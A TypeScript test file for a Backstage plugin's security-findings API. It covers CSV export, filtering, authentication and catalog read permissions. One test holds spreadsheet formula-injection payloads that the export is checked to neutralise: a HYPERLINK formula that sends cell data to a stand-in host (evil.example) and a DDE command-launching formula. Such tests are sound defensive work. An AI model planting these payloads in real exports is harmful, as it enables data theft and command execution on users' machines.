import {
  BackstageCredentials,
  coreServices,
  createServiceFactory,
  createServiceRef,
} from '@backstage/backend-plugin-api';
import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import {
  Entity,
  parseEntityRef,
  stringifyEntityRef,
} from '@backstage/catalog-model';
import {
  CatalogService,
  catalogServiceRef,
} from '@backstage/plugin-catalog-node';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import {
  AuthorizeResult,
  PolicyDecision,
} from '@backstage/plugin-permission-common';
import {
  AuditFinding,
  INTEGRATIONS_SYNCED_TOPIC,
  buildIntegrationEntities,
} from '@internal/backstage-plugin-meter-siem-common';
import request from 'supertest';
import {
  entities,
  externalId,
  integration,
  managed,
  org,
  settings,
} from './__testUtils__/fixtures';
import { CSV_COLUMNS } from './report';
import { meterSiemPlugin } from './plugin';

async function start(config: object = {}, catalog: Entity[] = entities) {
  const { server } = await startTestBackend({
    features: [
      meterSiemPlugin,
      catalogServiceMock.factory({ entities: catalog }),
      mockServices.rootConfig.factory({ data: config }),
      // Without this, the test backend treats a request without a token as
      // the mock user's.
      mockServices.httpAuth.factory({
        defaultCredentials: mockCredentials.none(),
      }),
    ],
  });
  return server;
}

type Server = Awaited<ReturnType<typeof start>>;

async function findings(
  server: Server,
  query = '',
  header = mockCredentials.user.header('user:default/jane'),
): Promise<AuditFinding[]> {
  const res = await request(server)
    .get(`/api/meter-siem/findings${query}`)
    .set('Authorization', header);
  expect(res.status).toBe(200);
  return res.body.findings;
}

/** Parses RFC 4180 CSV: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

describe('GET /api/meter-siem/findings', () => {
  let server: Server;
  beforeAll(async () => {
    server = await start();
  });

  const userHeader = mockCredentials.user.header('user:default/jane');

  it('reports every finding, the caller’s own first, with counts', async () => {
    const res = await request(server)
      .get('/api/meter-siem/findings')
      .set('Authorization', userHeader);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/application\/json/);
    const { findings: all, counts, generatedAt } = res.body;
    expect(new Date(generatedAt).toISOString()).toBe(generatedAt);
    expect(all.map((f: AuditFinding) => [f.mine, f.integration, f.id])).toEqual(
      [
        [
          true,
          'janes',
          'required-tag-missing:resource:default/janes-222222222222:role',
        ],
        [
          true,
          'janes',
          'required-tag-missing:resource:default/janes-222222222222:stream',
        ],
        [
          false,
          'hand',
          'trust-without-external-id:resource:default/hand-222222222222:role',
        ],
        [
          false,
          'hand',
          'owner-unknown:resource:default/hand-222222222222:role',
        ],
        [
          false,
          'hand',
          'owner-unknown:resource:default/hand-222222222222:stream',
        ],
        [
          false,
          'orphan',
          'owner-tag-missing:resource:default/orphan-111111111111:role',
        ],
        [
          false,
          'orphan',
          'owner-tag-missing:resource:default/orphan-111111111111:stream',
        ],
        [
          false,
          'hand',
          'unmanaged:resource:default/hand-222222222222:integration',
        ],
      ],
    );
    expect(counts).toEqual({
      bySeverity: { critical: 1, high: 0, medium: 4, low: 3 },
      byOwner: {
        'user:default/jane': 2,
        'group:default/ghosts': 4,
        'group:default/network': 2,
      },
      // Jane's two, counted by the server for the page's "of your team's".
      mine: 2,
      mineByOwner: { 'user:default/jane': 2 },
      // The filters' options, without the findings themselves.
      byAccount: { '111111111111': 2, '222222222222': 6 },
      byRegion: { 'eu-west-1': 6, 'us-east-1': 2 },
      byRule: {
        'owner-tag-missing': 2,
        'owner-unknown': 2,
        'required-tag-missing': 2,
        'trust-without-external-id': 1,
        unmanaged: 1,
      },
    });
    // Every finding, none left to a next page.
    expect(res.body.totalFindings).toBe(8);
    expect(res.body.offset).toBe(0);
    expect(res.body).not.toHaveProperty('limit');
    expect(all[2]).toEqual({
      id: 'trust-without-external-id:resource:default/hand-222222222222:role',
      ruleId: 'trust-without-external-id',
      severity: 'critical',
      title: 'Role trusts Meter without an external ID',
      message: expect.stringContaining('without an sts:ExternalId condition'),
      remedy: expect.stringContaining('sts:ExternalId'),
      entityRef: 'resource:default/hand-222222222222',
      integration: 'hand',
      owner: 'group:default/ghosts',
      accountId: '222222222222',
      region: 'eu-west-1',
      environment: 'lab, "b"',
      resource: 'role',
      resourceArn: 'arn:aws:iam::222222222222:role/meter-siem-hand',
      mine: false,
    });
    expect(JSON.stringify(res.body)).not.toContain(externalId);
  });

  it('returns the same findings as CSV, by format or by Accept header', async () => {
    const json = await findings(server);
    const res = await request(server)
      .get('/api/meter-siem/findings?format=csv')
      .set('Authorization', userHeader);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="meter-siem-findings-all-${today}.csv"`,
    );
    const [header, ...rows] = parseCsv(res.text);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toEqual(
      json.map(f => CSV_COLUMNS.map(column => f[column] ?? '')),
    );
    expect(res.text).toContain('"lab, ""b"""');

    const accepted = await request(server)
      .get('/api/meter-siem/findings')
      .set('Accept', 'text/csv')
      .set('Authorization', userHeader);
    expect(accepted.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(accepted.text).toBe(res.text);

    // Named by its filters and the day, so that downloads do not collide.
    const filtered = await request(server)
      .get('/api/meter-siem/findings?format=csv&owner=network&severity=medium')
      .set('Authorization', userHeader);
    expect(filtered.headers['access-control-expose-headers']).toBe(
      'Content-Disposition',
    );
    expect(filtered.headers['content-disposition']).toBe(
      `attachment; filename="meter-siem-findings-owner-network-severity-medium-${today}.csv"`,
    );
  });

  it('filters by owner, account, region, rule and severity', async () => {
    const ids = async (query: string) =>
      (await findings(server, query)).map(f => f.id).sort();
    expect(await ids('?owner=ghosts')).toHaveLength(4);
    expect(await ids('?owner=user:jane&owner=group:default/network')).toEqual(
      (await ids('?owner=user:default/jane,network')).sort(),
    );
    expect(await ids('?owner=user:jane')).toHaveLength(2);
    expect(await ids('?account=111111111111')).toEqual([
      'owner-tag-missing:resource:default/orphan-111111111111:role',
      'owner-tag-missing:resource:default/orphan-111111111111:stream',
    ]);
    expect(await ids('?region=us-east-1')).toHaveLength(2);
    expect(await ids('?rule=unmanaged,trust-without-external-id')).toEqual([
      'trust-without-external-id:resource:default/hand-222222222222:role',
      'unmanaged:resource:default/hand-222222222222:integration',
    ]);
    expect(await ids('?severity=critical&severity=high')).toHaveLength(1);
    expect(
      await ids('?account=222222222222&region=eu-west-1&severity=medium'),
    ).toEqual([
      'owner-unknown:resource:default/hand-222222222222:role',
      'owner-unknown:resource:default/hand-222222222222:stream',
    ]);
    const filtered = await request(server)
      .get('/api/meter-siem/findings?owner=network')
      .set('Authorization', userHeader);
    expect(filtered.body.counts.byOwner).toEqual({
      'group:default/network': 2,
    });
  });

  it('neutralises spreadsheet formulas in the CSV, and only there', async () => {
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&A1,"Fix")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
    ];
    const evil = buildIntegrationEntities(
      formulas.map((environment, i) =>
        integration(
          `evil${i}`,
          '333333333333',
          'us-east-1',
          { ...managed, owner: 'group:default/network', environment },
          { externalId: false },
        ),
      ),
      { settings, fallbackOwner: 'group:default/network' },
    ) as unknown as Entity[];
    const evilServer = await start({}, [...evil, ...org]);
    const query = '?account=333333333333&rule=trust-without-external-id';

    const json = await findings(evilServer, query);
    expect(json.map(f => f.environment).sort()).toEqual([...formulas].sort());

    const res = await request(evilServer)
      .get(`/api/meter-siem/findings${query}&format=csv`)
      .set('Authorization', userHeader);
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(res.text);
    const environments = rows.map(row => row[header.indexOf('environment')]);
    expect(environments.sort()).toEqual(formulas.map(f => `'${f}`).sort());
    // No cell of the file starts a formula.
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('reads owners in one form: a short owner ref on an entity is matched too', async () => {
    const [janes] = buildIntegrationEntities(
      [
        integration(
          'short',
          '444444444444',
          'us-east-1',
          { ...managed, owner: 'user:default/jane' },
          { externalId: false },
        ),
      ],
      { settings, fallbackOwner: 'group:default/network' },
    ) as unknown as Entity[];
    // As someone might write it by hand: kind and namespace left out.
    const shortOwner = {
      ...janes,
      spec: { ...janes.spec, owner: 'user:jane' },
    };
    const shortServer = await start({}, [shortOwner, ...org]);

    const all = await findings(shortServer);
    expect(all.length).toBeGreaterThan(0);
    expect(all.every(f => f.owner === 'user:jane' && f.mine)).toBe(true);
    expect(await findings(shortServer, '?owner=user:default/jane')).toEqual(
      all,
    );
    expect(await findings(shortServer, '?owner=network')).toEqual([]);
  });

  it('returns one integration’s findings by entity ref', async () => {
    expect(
      (
        await findings(
          server,
          '?entityRef=resource:default/orphan-111111111111',
        )
      ).map(f => f.ruleId),
    ).toEqual(['owner-tag-missing', 'owner-tag-missing']);
    expect(
      await findings(server, '?entityRef=resource:default/clean-111111111111'),
    ).toEqual([]);
    const missing = await request(server)
      .get('/api/meter-siem/findings?entityRef=resource:default/nope')
      .set('Authorization', userHeader);
    expect(missing.status).toBe(404);
  });

  it('refuses unknown filter values and formats, naming them', async () => {
    const bad = async (query: string) => {
      const res = await request(server)
        .get(`/api/meter-siem/findings${query}`)
        .set('Authorization', userHeader);
      expect(res.status).toBe(400);
      return res.body.error.message;
    };
    expect(await bad('?severity=urgent')).toMatch(/severity "urgent"/);
    expect(await bad('?rule=nope')).toMatch(/rule "nope"/);
    expect(await bad('?format=xml')).toMatch(/format must be json or csv/);
  });

  it('serves service callers, none of whose findings are "mine"', async () => {
    const res = await request(server)
      .get('/api/meter-siem/findings')
      .set('Authorization', mockCredentials.service.header());
    expect(res.status).toBe(200);
    expect(res.body.findings).toHaveLength(8);
    expect(res.body.findings.every((f: AuditFinding) => !f.mine)).toBe(true);
    expect(res.body.findings[0].severity).toBe('critical');
  });

  it('refuses a request without credentials', async () => {
    const res = await request(server).get('/api/meter-siem/findings');
    expect(res.status).toBe(401);
    const csv = await request(server).get(
      '/api/meter-siem/findings?format=csv',
    );
    expect(csv.status).toBe(401);
    expect(csv.text).not.toContain('meter-siem');
  });

  it('applies the configured required tags and allowed values', async () => {
    const configured = await start({
      meterSiem: {
        tagKeys: { environment: 'env' },
        audit: {
          requiredTags: ['owner', 'cost-center'],
          allowedValues: { environment: ['production'] },
        },
      },
    });
    const byRule = (await findings(configured)).reduce<Record<string, number>>(
      (acc, f) => ({ ...acc, [f.ruleId]: (acc[f.ruleId] ?? 0) + 1 }),
      {},
    );
    expect(byRule).toEqual({
      'trust-without-external-id': 1,
      'owner-unknown': 2,
      'owner-tag-missing': 2,
      'required-tag-missing': 8,
      'tag-value-not-allowed': 2,
      unmanaged: 1,
    });
  });

  it("reports facts older than meterSiem.audit.staleAfter, with the sync error, and the report's oldest facts", async () => {
    const readAt = new Date(Date.now() - 3 * 3_600_000).toISOString();
    const recent = new Date(Date.now() - 60_000).toISOString();
    const catalog = entities.map(entity =>
      entity.spec?.type === 'meter-siem-integration'
        ? {
            ...entity,
            metadata: {
              ...entity.metadata,
              annotations: {
                ...entity.metadata.annotations,
                ...(entity.metadata.name.startsWith('clean')
                  ? {
                      'meter-siem.io/facts-read-at': readAt,
                      'meter-siem.io/facts-error': 'AccessDenied: no',
                    }
                  : { 'meter-siem.io/facts-read-at': recent }),
              },
            },
          }
        : entity,
    );
    const staleServer = await start(
      { meterSiem: { audit: { staleAfter: { hours: 1 } } } },
      catalog,
    );
    const res = await request(staleServer)
      .get('/api/meter-siem/findings?rule=facts-stale')
      .set('Authorization', mockCredentials.user.header('user:default/jane'));
    expect(res.status).toBe(200);
    expect(
      res.body.findings.map((f: AuditFinding) => [f.integration, f.message]),
    ).toEqual([
      [
        'clean',
        expect.stringMatching(
          /read from AWS 3 hours ago .*; the syncs since failed: AccessDenied: no\./,
        ),
      ],
    ]);
    expect(res.body.factsReadAt).toBe(readAt);

    // Under the default threshold (2 hours) a 1-minute-old read is fresh.
    const fresh = await start(
      {},
      catalog.filter(e => !e.metadata.name.startsWith('clean')),
    );
    const none = await request(fresh)
      .get('/api/meter-siem/findings?rule=facts-stale')
      .set('Authorization', mockCredentials.user.header('user:default/jane'));
    expect(none.body.findings).toEqual([]);
  });
});

/** The user a request acts for, or `service`. */
function subjectOf(credentials: BackstageCredentials): string {
  const principal = credentials.principal as {
    type: string;
    userEntityRef?: string;
  };
  return principal.type === 'user' ? principal.userEntityRef! : principal.type;
}

/**
 * The in-memory catalog, recording who reads it, and hiding what `hide`
 * says from each reader, as the catalog would with a policy of its own.
 */
function recordingCatalog(
  catalog: Entity[],
  hide: (subject: string, entity: Entity) => boolean = () => false,
) {
  const base = catalogServiceMock({ entities: catalog });
  const reads: string[] = [];
  const service: Partial<CatalogService> = {
    async getEntities(req, options) {
      const subject = subjectOf(options.credentials);
      reads.push(subject);
      const answer = await base.getEntities(req, options);
      return { items: answer.items.filter(e => !hide(subject, e)) };
    },
    async queryEntities(req, options) {
      const subject = subjectOf(options.credentials);
      reads.push(subject);
      const answer = await base.queryEntities(req, options);
      return { ...answer, items: answer.items.filter(e => !hide(subject, e)) };
    },
    async getEntityByRef(ref, options) {
      const subject = subjectOf(options.credentials);
      reads.push(subject);
      const entity = await base.getEntityByRef(ref, options);
      return entity && !hide(subject, entity) ? entity : undefined;
    },
  };
  return {
    reads,
    factory: createServiceFactory({
      service: catalogServiceRef,
      deps: {},
      factory: () => service as CatalogService,
    }),
  };
}

const conditional = (
  conditions: Extract<PolicyDecision, { conditions: unknown }>['conditions'],
): PolicyDecision => ({
  result: AuthorizeResult.CONDITIONAL,
  pluginId: 'catalog',
  resourceType: 'catalog-entity',
  conditions,
});

describe('the catalog read permission', () => {
  // As the catalog's processing adds them from spec.owner.
  const withRelations = entities.map(entity =>
    entity.spec?.type === 'meter-siem-integration'
      ? {
          ...entity,
          relations: [
            {
              type: 'ownedBy',
              targetRef: stringifyEntityRef(
                parseEntityRef(String(entity.spec.owner), {
                  defaultKind: 'group',
                  defaultNamespace: 'default',
                }),
              ),
            },
          ],
        }
      : entity,
  );
  // Each user's decision on catalog.entity.read.
  const decisions: Record<string, PolicyDecision> = {
    'user:default/bob': { result: AuthorizeResult.ALLOW },
    'user:default/eve': { result: AuthorizeResult.DENY },
    // What catalog's isEntityOwner makes: only what their team owns.
    'user:default/jane': conditional({
      rule: 'IS_ENTITY_OWNER',
      resourceType: 'catalog-entity',
      params: { claims: ['user:default/jane', 'group:default/ghosts'] },
    }),
    'user:default/nina': conditional({
      allOf: [
        {
          rule: 'IS_ENTITY_KIND',
          resourceType: 'catalog-entity',
          params: { kinds: ['resource'] },
        },
        {
          not: {
            rule: 'HAS_ANNOTATION',
            resourceType: 'catalog-entity',
            params: {
              annotation: 'meter-siem.io/account-id',
              value: '222222222222',
            },
          },
        },
      ],
    }),
    // A rule of the catalog's own that no one here knows.
    'user:default/carl': conditional({
      rule: 'IS_IN_ACCOUNT_111111111111',
      resourceType: 'catalog-entity',
      params: {},
    }),
  };
  const asked: string[] = [];
  const permissions = createServiceFactory({
    service: coreServices.permissions,
    deps: {},
    factory: () => ({
      async authorize(requests) {
        return requests.map(() => ({ result: AuthorizeResult.ALLOW }));
      },
      async authorizeConditional(requests, { credentials }) {
        asked.push(...requests.map(r => r.permission.name));
        const subject = subjectOf(credentials);
        return requests.map(
          () => decisions[subject] ?? { result: AuthorizeResult.ALLOW },
        ) as any;
      },
    }),
  });
  // What the catalog itself lets carl read, by that rule.
  const catalog = recordingCatalog(
    withRelations,
    (subject, entity) =>
      subject === 'user:default/carl' &&
      entity.metadata.annotations?.['meter-siem.io/account-id'] !==
        '111111111111',
  );
  const userReads = () => catalog.reads.filter(s => s !== 'service');
  let server: Server;
  beforeAll(async () => {
    ({ server } = await startTestBackend({
      features: [
        meterSiemPlugin,
        catalog.factory,
        permissions,
        mockServices.httpAuth.factory({
          defaultCredentials: mockCredentials.none(),
        }),
      ],
    }));
  });

  const integrations = async (user: string, query = '') =>
    [
      ...new Set(
        (
          await findings(
            server,
            query,
            mockCredentials.user.header(`user:default/${user}`),
          )
        ).map(f => f.integration),
      ),
    ].sort();

  it('shows everything to whom the policy allows it, without reading the catalog', async () => {
    expect(await integrations('bob')).toEqual(['hand', 'janes', 'orphan']);
    expect(asked).toContain('catalog.entity.read');
    // The index's catalog reads are the plugin's own, as a service.
    expect(userReads()).toEqual([]);
  });

  it('shows nothing to whom it denies it', async () => {
    expect(await integrations('eve')).toEqual([]);
    const res = await request(server)
      .get(
        '/api/meter-siem/findings?entityRef=resource:default/hand-222222222222',
      )
      .set('Authorization', mockCredentials.user.header('user:default/eve'));
    expect(res.status).toBe(404);
  });

  it("applies the catalog's conditions in memory: only what the user's team owns", async () => {
    expect(await integrations('jane')).toEqual(['hand', 'janes']);
    const res = await request(server)
      .get('/api/meter-siem/findings')
      .set('Authorization', mockCredentials.user.header('user:default/jane'));
    // The counts are of what the user may see.
    expect(res.body.totalFindings).toBe(6);
    expect(Object.keys(res.body.counts.byOwner).sort()).toEqual([
      'group:default/ghosts',
      'user:default/jane',
    ]);
    // One integration: another team's is not found.
    const orphan = await request(server)
      .get(
        '/api/meter-siem/findings?entityRef=resource:default/orphan-111111111111',
      )
      .set('Authorization', mockCredentials.user.header('user:default/jane'));
    expect(orphan.status).toBe(404);
    expect(
      await integrations(
        'jane',
        '?entityRef=resource:default/janes-222222222222',
      ),
    ).toEqual(['janes']);
    // And the CSV holds no more.
    const csv = await request(server)
      .get('/api/meter-siem/findings?format=csv')
      .set('Authorization', mockCredentials.user.header('user:default/jane'));
    expect(csv.text).not.toContain('orphan');
    expect(userReads()).toEqual([]);

    // Combined conditions too: resources outside account 222222222222.
    expect(await integrations('nina')).toEqual(['orphan']);
    expect(userReads()).toEqual([]);
  });

  it('reads the catalog as the user when a condition uses a rule it cannot apply', async () => {
    expect(await integrations('carl')).toEqual(['orphan']);
    expect(userReads()).toEqual(['user:default/carl']);
    const hand = await request(server)
      .get(
        '/api/meter-siem/findings?entityRef=resource:default/hand-222222222222',
      )
      .set('Authorization', mockCredentials.user.header('user:default/carl'));
    expect(hand.status).toBe(404);
  });
});

describe('the index of findings', () => {
  /** A bus shared by the plugins, as the events service is. */
  const testEventsRef = createServiceRef<{
    publish(params: { topic: string; eventPayload: unknown }): Promise<void>;
  }>({ id: 'events.service', scope: 'plugin' });
  const subscribers: Array<{
    topics: string[];
    onEvent: (params: {
      topic: string;
      eventPayload: unknown;
    }) => Promise<void>;
  }> = [];
  const bus = {
    async publish(params: { topic: string; eventPayload: unknown }) {
      for (const s of subscribers) {
        if (s.topics.includes(params.topic)) await s.onEvent(params);
      }
    },
    async subscribe(options: (typeof subscribers)[number]) {
      subscribers.push(options);
    },
  };

  it('is built once from the catalog, and again after a sync says the facts changed', async () => {
    const removed = new Set<string>();
    const catalog = recordingCatalog(entities, (_, entity) =>
      removed.has(entity.metadata.name),
    );
    const { server } = await startTestBackend({
      features: [
        meterSiemPlugin,
        catalog.factory,
        createServiceFactory({
          service: testEventsRef,
          deps: {},
          factory: () => bus as any,
        }),
        mockServices.httpAuth.factory({
          defaultCredentials: mockCredentials.none(),
        }),
      ],
    });
    const names = async () =>
      [...new Set((await findings(server)).map(f => f.integration))].sort();
    expect(await names()).toEqual(['hand', 'janes', 'orphan']);
    expect(await names()).toEqual(['hand', 'janes', 'orphan']);
    // Only the plugin's own reads: integrations and owners, once.
    expect(catalog.reads).toEqual(['service', 'service']);

    removed.add('hand-222222222222');
    // Until an event, the index stands.
    expect(await names()).toEqual(['hand', 'janes', 'orphan']);
    await bus.publish({ topic: INTEGRATIONS_SYNCED_TOPIC, eventPayload: {} });
    // Rebuilt once the catalog has had the time to take the sync in.
    for (let i = 0; i < 100 && (await names()).includes('hand'); i++) {
      await new Promise(resolve => setTimeout(resolve, 200));
    }
    expect(await names()).toEqual(['janes', 'orphan']);
    expect(catalog.reads).toEqual(['service', 'service', 'service', 'service']);
  }, 30_000);
});
